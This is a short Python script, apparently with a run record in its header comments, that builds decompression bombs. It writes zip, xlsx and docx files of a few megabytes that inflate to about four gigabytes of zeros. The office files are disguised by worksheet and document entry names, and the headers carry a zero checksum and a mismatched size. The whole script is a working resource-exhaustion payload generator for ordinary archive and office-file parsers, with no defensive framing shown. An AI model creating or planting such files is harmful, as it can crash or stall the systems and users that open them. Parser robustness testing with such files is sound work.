# What: leaves archives and workbooks of four megabytes which hold four gigabytes.
# Ends: exited
# Code: 0
import struct
import zlib

REPEATS, SIZE = 64, 64 * 2**20
packer = zlib.compressobj(9, zlib.DEFLATED, -15)
block = packer.compress(bytes(SIZE)) + packer.flush(zlib.Z_FULL_FLUSH)
data = block * REPEATS + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def archive(path, name):
    about = (8, 0, 0, 0, len(data), REPEATS * SIZE - 1, len(name), 0)
    local = b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 0, *about) + name
    central = b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, *about, 0, 0, 0, 0, 0) + name
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    with open(path, "wb") as file:
        file.write(local + data + central + end)


archive("/out/bomb.zip", b"zeros")
archive("/out/bomb.xlsx", b"xl/worksheets/sheet1.xml")
archive("/out/bomb.docx", b"word/document.xml")
print("TRIED", len(data))
